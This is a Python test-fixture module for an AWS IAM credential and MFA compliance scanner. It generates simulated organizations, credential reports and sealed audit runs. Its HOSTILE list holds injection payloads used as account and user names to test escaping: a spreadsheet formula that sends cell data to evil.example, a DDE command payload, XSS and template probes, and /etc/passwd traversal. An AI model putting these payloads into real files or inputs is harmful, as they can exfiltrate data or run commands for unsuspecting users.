"""
Finished runs for the tests of documents: raw answers as AWS gives them, judged and sealed as a scan does.
"""

import csv
import hashlib
import io
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml

from scanner.confirmation import GET_LOGIN_PROFILE, LIST_MFA_DEVICES, LIST_USER_TAGS, live_file
from scanner.credentials import REPORT_COLUMNS
from scanner.evidence import StoredRun
from scanner.evidence.previous import name_inputs, take_previous
from scanner.evidence.replay import derive_tables
from scanner.evidence.run import name_catalogs
from scanner.evidence.seal import seal
from scanner.evidence.sittings import name_began, name_ended
from scanner.evidence.store import Store
from scanner.frameworks import load_framework
from scanner.model import (
    ROOT_USER,
    AccountId,
    Attempt,
    Exclusion,
    Notes,
    ReasonCode,
    ScopeRule,
    Selection,
    SittingBegan,
    SittingEnded,
    Terms,
)
from scanner.records import encode
from scanner.summary import Sitting

ORGANIZATION = "o-a1b2c3d4e5"
MANAGEMENT = AccountId("000000000017")
CALLER = f"arn:aws:sts::{MANAGEMENT}:assumed-role/orgproof-scanner/quarterly"
ROOT_UNIT = "r-ab12"
STARTED = datetime(2026, 11, 24, 10, 15, tzinfo=UTC)
FINISHED = datetime(2026, 11, 24, 10, 27, 31, tzinfo=UTC)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    '</td></tr></table><script>alert(1)</script><style>*{display:none}</style>"',
    "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "payments\u202egpj.exe \u200f\u2066mark",
    "line one\r\nline two\ttab\x00nul\x1b[31mred\x7f",
    "../../../../etc/passwd",
    "-1+1",
    "#N/A",
    "_x003D_1+1 _x202E_exe",
    "\u05d7\u05e9\u05d1\u05d5\u05df \u0627\u0644\u062f\u0641\u0639 \u652f\u6255\u3044",
    "W" * 128,
    "&lt;already&amp;escaped&gt; <!-- comment --> <![CDATA[x]]>",
    '"><link rel=attachment href=file:///etc/passwd>',
    "\uff1dcmd()",
    "z" + "\u0301\u0323" * 40,
)


@dataclass(frozen=True)
class Live:
    """
    What an account says about one user when asked: MFA devices, tags, or an error.
    """

    devices: tuple[str, ...] = ()
    owner: str | None = None
    error: str | None = None


@dataclass(frozen=True)
class Person:
    """
    One row of a credential report, in the report's own words.
    """

    name: str
    password: str = "true"
    mfa: str = "true"
    key: str = "false"
    path: str = "/"
    live: Live | None = None


ROOT = Person(ROOT_USER, password="false", mfa="false")
OPEN = Live(owner="team-payments@example.com")
FIXED = Live(devices=("arn:aws:iam::012345678901:mfa/bob",))


@dataclass(frozen=True)
class Listed:
    """
    One listed account: its people when it was read, else why it was not.

    `counted` is IAM's own number of users (as many as there are people, unless given), `known` the users
    whom ListUsers names where it was asked, `age` how old the report was when collecting began.
    """

    id: str
    name: str
    ou: tuple[str, ...] = ("Root", "Workloads")
    people: tuple[Person, ...] | None = ()
    root: Person = ROOT
    reason_code: ReasonCode | None = None
    reason: str | None = None
    state: str = "ACTIVE"
    exclusion: str | None = None
    counted: int | None = -1
    known: tuple[str, ...] | None = None
    age: timedelta | None = None
    tags: Mapping[str, str] | None = None

    def arn(self, person: Person) -> str:
        """
        Return a person's ARN.
        """
        tail = "root" if person.name == ROOT_USER else f"user{person.path}{person.name}"
        return f"arn:aws:iam::{self.id}:{tail}"

    def generated(self, started: datetime) -> datetime:
        """
        Return when the account's report was made.
        """
        return started - (self.age or timedelta(minutes=int(self.id) % 200))


def missed(id: str, name: str, code: ReasonCode = ReasonCode.ACCESS_DENIED) -> Listed:  # noqa: A002
    """
    Return an account that could not be read.
    """
    reason = (
        f"account {id} ({name}): the role orgproof-reader cannot be assumed (AccessDenied); "
        "create it there or pass --role-name"
    )
    return Listed(id, name, people=None, reason_code=code, reason=reason)


def ordinary() -> list[Listed]:
    """
    Return an organization with an account of every outcome and findings of every kind.
    """
    return [
        Listed("000000000017", "management", ("Root",), (Person("ada"), Person("break-glass"))),
        Listed(
            "012345678901",
            "payments-prod",
            ("Root", "Workloads", "Production"),
            (
                Person("alice", mfa="false", key="true", live=OPEN),
                Person("bob", mfa="false", live=FIXED),
                Person("carol"),
                Person("ci-deploy", password="false", mfa="false", key="true"),
                Person("odd", password="perhaps", mfa="false"),
            ),
            root=Person(ROOT_USER, password="true", mfa="false", key="true"),
        ),
        Listed(
            "111111111111",
            "data-lake",
            ("Root", "Workloads", "Production", "Analytics"),
            (Person("dora"), Person("erin", mfa="false", path="/division/team/")),
            root=Person(ROOT_USER, password="not_supported", mfa="true"),
        ),
        Listed("222222222222", "sandbox", ("Root", "Sandbox"), ()),
        Listed("333333333333", "left-out", people=None, exclusion="run by a partner"),
        Listed("444444444444", "closed", people=None, state="SUSPENDED"),
    ]


def hostile() -> list[Listed]:
    """
    Return accounts, OUs and users that are all named to do harm.

    A report that holds control characters is refused whole, so users' names are without them.
    """
    accounts = [
        Listed(
            f"{500000000000 + number}",
            name,
            ("Root", name, HOSTILE[-number - 1]),
            (
                Person(user, mfa="false", live=OPEN),
                Person(
                    f"x{number}",
                    mfa="false",
                    path=f"/{user}/",
                    live=Live(owner=name, error=name),
                ),
            ),
        )
        for number, name in enumerate(HOSTILE)
        for user in [re.sub(r"[\x00-\x1f]", "", name)]
    ]
    return [
        Listed(MANAGEMENT, HOSTILE[0], ("Root",), (Person("ada"),)),
        *accounts,
        *(missed(f"{600000000000 + n}", name) for n, name in enumerate(HOSTILE)),
    ]


def clean() -> list[Listed]:
    """
    Return an organization without exceptions in which every account was read.
    """
    return [
        Listed("000000000017", "management", ("Root",), (Person("ada"),)),
        Listed("012345678901", "payments-prod", people=(Person("carol"), Person("dave"))),
    ]


def large(accounts: int, users: int, findings: int) -> list[Listed]:
    """
    Return many accounts with `users` users in all, of whom about `findings` lack a device.
    """
    each, every = users // accounts, max(1, users // max(findings, 1))
    members = [
        Listed(
            f"{100000000000 + number}",
            f"workload-{number:05}",
            ("Root", "Workloads", f"Unit {number % 40:02}"),
            tuple(
                Person(f"user-{serial:06}", mfa="false" if serial % every == 0 else "true")
                for serial in range(number * each, (number + 1) * each)
            ),
        )
        for number in range(accounts)
    ]
    return [Listed(MANAGEMENT, "management", ("Root",), (Person("ada"),)), *members]


def accept(id: str, user: str, **fields: Any) -> dict[str, Any]:  # noqa: A002
    """
    Return one accepted risk as its file holds it: alice's missing device, unless fields say otherwise.
    """
    return {
        "id": id,
        "kind": "compensating-control",
        "account": "012345678901",
        "user": user,
        "check": "console-no-mfa",
        "reason": "Sealed password; each use pages the security team.",
        "owner": "Payments platform",
        "approver": "Noor Haddad, CISO",
        "ticket": "RISK-118",
        "from": date(2026, 9, 1),
        "until": date(2027, 8, 31),
        **fields,
    }


def list_sittings(*lengths: int | None) -> tuple[Sitting, ...]:
    """
    Return a run's sittings, an hour apart and as many minutes long; None for one that ended without notice.

    All but the last were interrupted.
    """
    return tuple(
        Sitting(
            started=(started := STARTED + timedelta(hours=index)),
            finished=None if length is None else started + timedelta(minutes=length),
            interrupted=length is not None and index + 1 < len(lengths),
            caller_arn=CALLER,
            tool_version="0.1.0",
        )
        for index, length in enumerate(lengths)
    )


def write_acceptances(*entries: Mapping[str, Any]) -> bytes:
    """
    Return a file of accepted risks.
    """
    return yaml.safe_dump({"format": 1, "acceptances": list(entries)}, allow_unicode=True).encode()


BEFORE = STARTED - timedelta(days=100)
"""
When the run before the eventful one began: more than a quarter earlier.
"""


def write_eventful(folder: Path, **changes: Any) -> StoredRun:
    """
    Write a run with everything that a run can hold, after a run a hundred days before it.

    Since then bob was fixed, newcomer came, one account left and others joined. One risk is accepted, one
    acceptance expired, one has not begun, one matches nothing. One report is old, one account has more
    users than its report and says why, one fewer and does not, one gave no count, one was not read.
    """
    management, payments, lake, *others = ordinary()
    gone = Listed("555555555555", "gone", people=(Person("zed", mfa="false"),))
    previous = write_run(
        folder, [management, payments, lake, gone], started=BEFORE, period="2026-Q3"
    )
    without_bob = tuple(person for person in payments.people or () if person.name != "bob")
    now = [
        management,
        replace(payments, people=(*without_bob, Person("newcomer", mfa="false"))),
        replace(lake, counted=3, known=("dora", "erin", "fresh")),
        *others,
        Listed(
            "666666666666",
            "old-report",
            people=(Person("late", mfa="false"),),
            age=timedelta(hours=30),
        ),
        Listed("777777777777", "uncounted", people=(Person("una"),), counted=None),
        Listed("888888888888", "fewer", people=(Person("vera"), Person("fern")), counted=1),
        missed("999999999999", "unreachable"),
    ]
    acceptances = write_acceptances(
        accept("sealed-alice", "alice"),
        accept(
            "old-erin",
            "erin",
            account="111111111111",
            **{"from": date(2026, 1, 1), "until": date(2026, 10, 31)},
        ),
        accept(
            "future",
            "newcomer",
            ticket="RISK-200",
            **{"from": date(2026, 12, 1), "until": date(2027, 3, 1)},
        ),
        accept("nobody", "ghost-*", approver="Payments platform"),
    )
    return write_run(
        folder,
        now,
        scopes=(
            ScopeRule(
                "pci-dss-4.0.1",
                accounts=(AccountId("012345678901"),),
                ous=(name_unit("Sandbox"),),
            ),
        ),
        acceptances=acceptances,
        previous=previous,
        warnings=("run 20260801T000000Z is no previous run to compare with: it was altered",),
        **changes,
    )


def name_unit(*names: str) -> str:
    """
    Return the id of the OU with this path, such as `name_unit("Workloads", "Production")`.
    """
    return f"ou-ab12-{hashlib.sha256(repr(names).encode()).hexdigest()[:8]}"


def write_run(
    folder: Path,
    accounts: Sequence[Listed],
    frameworks: Sequence[str] = ("pci-dss-4.0.1", "iso-27001-2022"),
    *,
    started: datetime = STARTED,
    period: str = "2026-Q4",
    scopes: tuple[ScopeRule, ...] = (),
    acceptances: bytes | None = None,
    previous: StoredRun | None = None,
    warnings: tuple[str, ...] = (),
    limits: Mapping[str, Any] | None = None,
    **changes: Any,
) -> StoredRun:
    """
    Write, judge and seal a run in a folder of its own below `folder`, and open it.

    `limits` are `findings_limit` and `annex_limit` of the settings. `changes` replaces fields of the summary
    afterwards, as somebody might who edits the file.
    """
    store = Store(folder / f"{started:%Y%m%dT%H%M%SZ}")
    terms = Terms(
        period=period,
        selection=Selection(
            exclusions=tuple(
                Exclusion(AccountId(account.id), account.exclusion)
                for account in accounts
                if account.exclusion
            )
        ),
        scopes=scopes,
        max_report_age_hours=24,
        frameworks=tuple(frameworks),
        formats=("json",),
        role_name="orgproof-reader",
        roles={},
        uses_external_id=False,
        confirm=True,
        owner_tags=("owner",),
        workers=2,
        account_deadline=120,
        endpoint=None,
        simulated=False,
        organization_name="Example Payments Ltd",
        prepared_by="Cloud Security",
        **(limits or {}),
    )
    _write_organization(store, accounts)
    for account in accounts:
        _write_account(store, account, started)
    finished = started + (FINISHED - STARTED)
    began = SittingBegan(started, "arn:aws:iam::000000000017:user/auditor", "0.1.0")
    store.keep(name_began(1), encode(began))
    store.keep(name_ended(1), encode(SittingEnded(finished, interrupted=False)))
    inputs = {
        "settings.json": encode(terms),
        "notes.json": encode(Notes(started, warnings)),
        **name_catalogs(load_framework(name) for name in frameworks),
    }
    if scopes:
        inputs["settings.toml"] = b"# the scopes\n"
    if acceptances is not None:
        inputs["acceptances.yaml"] = acceptances
    if previous is not None:
        inputs |= name_inputs(take_previous(previous.folder))
    for name, content in inputs.items():
        store.write(f"inputs/{name}", content)
    summary = replace(derive_tables(store.folder), **changes)
    store.write("summary.json", encode(summary))
    seal(store, summary)
    return StoredRun(store.folder)


def _write_organization(store: Store, accounts: Sequence[Listed]) -> None:
    children: dict[str, dict[str, dict[str, str]]] = {}
    listed = []
    for account in accounts:
        units = [ROOT_UNIT]
        for depth in range(1, len(account.ou)):
            unit = name_unit(*account.ou[1 : depth + 1])
            children.setdefault(units[-1], {})[unit] = {"Id": unit, "Name": account.ou[depth]}
            units.append(unit)
        listed.append(
            {
                "Id": account.id,
                "Name": account.name,
                "Email": f"{account.id}@example.com",
                "State": account.state,
                "Paths": [f"{ORGANIZATION}/{'/'.join(units)}/{account.id}/"],
            }
        )
    described = {"Id": ORGANIZATION, "MasterAccountId": MANAGEMENT}
    answers: Mapping[str, object] = {
        "caller.json": {"Account": MANAGEMENT, "Arn": CALLER},
        "organization.json": {"Organization": described},
        "accounts.json": {"pages": [{"Accounts": listed}]},
        "organizational-units.json": {
            "roots": [{"Id": ROOT_UNIT, "Name": "Root"}],
            "children": {parent: list(found.values()) for parent, found in children.items()},
        },
        "account-tags.json": {
            "tags": {
                account.id: [{"Key": key, "Value": value} for key, value in account.tags.items()]
                for account in accounts
                if account.tags
            }
        },
    }
    for name, answer in answers.items():
        store.keep(name, encode(answer))


def _write_account(store: Store, account: Listed, started: datetime) -> None:
    if account.exclusion or account.state != "ACTIVE":
        return
    keep = store.keep_for(AccountId(account.id))
    fetched = started + timedelta(seconds=95)
    was_read = account.people is not None
    generated = account.generated(started)
    attempt = Attempt(
        account_id=AccountId(account.id),
        started=started,
        finished=fetched,
        identity="role orgproof-reader",
        reason_code=account.reason_code,
        reason=account.reason,
        generated_time=generated if was_read else None,
        fetched=fetched if was_read else None,
        requests=(),
    )
    keep("outcome-1.json", encode(attempt))
    if account.people is None:
        return
    keep("credential-report.csv", _write_report(account, account.people, generated))
    counted = len(account.people) if account.counted == -1 else account.counted
    if counted is not None:
        keep("account-summary.json", encode({"SummaryMap": {"Users": counted}}))
    if account.known is not None:
        made = started.isoformat()
        users = [{"UserName": name, "CreateDate": made} for name in account.known]
        keep("users.json", encode({"Users": users}))
    for person in account.people:
        if person.live:
            keep(live_file(account.arn(person)), encode(_answer(account.arn(person), person.live)))


def _answer(arn: str, live: Live) -> dict[str, object]:
    devices = [
        {"SerialNumber": serial, "EnableDate": "2026-11-24T09:00:00+00:00"}
        for serial in live.devices
    ]
    asked: dict[str, object] = {"answer": {"MFADevices": devices}}
    if live.error is not None:
        asked = {"error": {"code": live.error}}
    tags = [] if live.owner is None else [{"Key": "owner", "Value": live.owner}]
    return {
        "arn": arn,
        "answers": {
            LIST_MFA_DEVICES: asked,
            GET_LOGIN_PROFILE: {"answer": {"LoginProfile": {}}},
            LIST_USER_TAGS: {"answer": {"Tags": tags}},
        },
    }


def _write_report(account: Listed, people: Sequence[Person], generated: datetime) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(REPORT_COLUMNS)
    writer.writerows(_list_cells(account, person, generated) for person in (account.root, *people))
    return text.getvalue().encode()


def _list_cells(account: Listed, person: Person, generated: datetime) -> list[str]:
    def ago(days: int) -> str:
        return f"{generated - timedelta(days=days):%Y-%m-%dT%H:%M:%SZ}"

    has_password, has_key = person.password == "true", person.key == "true"
    values = dict.fromkeys(REPORT_COLUMNS, "N/A") | {
        "user": person.name,
        "arn": account.arn(person),
        "user_creation_time": "2021-03-04T05:06:07Z",
        "password_enabled": person.password,
        "password_last_used": ago(14) if has_password else "N/A",
        "password_last_changed": ago(54) if has_password else "N/A",
        "mfa_active": person.mfa,
        "access_key_1_active": person.key,
        "access_key_1_last_rotated": ago(54) if has_key else "N/A",
        "access_key_1_last_used_date": ago(4) if has_key else "N/A",
        "access_key_2_active": "false",
        "cert_1_active": "false",
        "cert_2_active": "false",
    }
    return [values[name] for name in REPORT_COLUMNS]
